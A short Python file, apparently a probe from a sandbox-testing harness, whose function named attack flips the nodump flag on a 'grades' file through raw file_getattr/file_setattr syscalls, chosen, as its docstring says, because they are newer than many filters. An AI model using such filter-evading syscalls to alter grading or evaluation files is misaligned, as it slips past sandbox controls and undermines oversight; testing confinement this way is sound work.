"""marks the grades as nodump by file_setattr, which is newer than many a filter"""

import ctypes
import os
import struct


NODUMP = 0x80


def flags(path):
    block = ctypes.create_string_buffer(24)
    syscall(468, -100, path, block, 24, 0)
    return struct.unpack("QIIII", block.raw)[0]


def attack():
    path = os.fsencode(TARGETS["grades"])
    before = flags(path)
    syscall(469, -100, path, struct.pack("QIIII", before ^ NODUMP, 0, 0, 0, 0), 24, 0)
    if flags(path) != before:
        reached("the grades have another flag")
